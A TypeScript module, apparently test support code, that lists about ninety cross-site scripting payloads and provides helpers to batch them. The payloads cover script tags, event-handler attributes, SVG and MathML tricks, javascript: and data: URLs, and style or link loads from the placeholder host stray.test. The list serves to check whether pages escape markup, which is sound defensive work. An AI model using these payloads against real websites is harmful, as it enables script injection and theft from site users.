// A payload that runs calls ran(). A payload that loads something requests it from stray.test.
const RUN = 'ran()'
const STRAY = 'http://stray.test/x'

/** Texts that run a script or fetch something if a page treats them as markup. */
export const XSS_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${STRAY}></script>`,
  `<script src="//stray.test/x"></script>`,
  `<script type=module>import '${STRAY}'</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x oneonerrorrror=${RUN} onerror=${RUN}>`,
  `<img src=${STRAY}>`,
  `<img srcset="${STRAY} 1x">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=${RUN}></style>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<html onmouseover=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `" onmouseover=${RUN} x="`,
  `" onmouseover="${RUN}" x="`,
  `x onfocus=${RUN} autofocus`,
  `\` onerror=${RUN} \``,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=${STRAY} onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${STRAY}></iframe>`,
  `<object data="javascript:${RUN}">`,
  `<object data=${STRAY}></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src=${STRAY}>`,
  `<link rel=stylesheet href=${STRAY}>`,
  `<link rel=preload as=script href=${STRAY}>`,
  `<link rel=icon href=${STRAY}>`,
  `<style>@import '${STRAY}';</style>`,
  `\u2028<style>@import "${STRAY}";</style>`,
  `<style>body{background:url(${STRAY})}</style>`,
  `<div style="background:url(${STRAY})">`,
  `;}body{background:url(${STRAY})}`,
  `<meta http-equiv=refresh content="0;url=${STRAY}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href=${STRAY}>`,
  `<form action=${STRAY}><button autofocus>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<x id=x tabindex=1 onfocusin=${RUN} autofocus>`,
  `<x style=animation-name:blinking onanimationstart=${RUN}>`,
  `<template><script>${RUN}</script></template><script>${RUN}</script>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%=${RUN}%>#{${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
]

/**
 * Joins all payloads into few texts of at most `most` characters. A longer payload is a text of its own. If a
 * page treats a text as markup, the first payload in it runs, whatever payloads come after it.
 */
export function joinedPayloads(payloads: readonly string[], most: number): readonly string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const longer = `${texts.at(-1) ?? ''} ${payload}`
    if (texts.length === 0 || longer.length > most) texts.push(payload)
    else texts[texts.length - 1] = longer
  }
  return texts
}

/** Splits the payloads into groups of at most `size`. */
export function payloadGroups(size: number): readonly (readonly string[])[] {
  const count = Math.ceil(XSS_PAYLOADS.length / size)
  return Array.from({ length: count }, (_, i) => XSS_PAYLOADS.slice(i * size, (i + 1) * size))
}
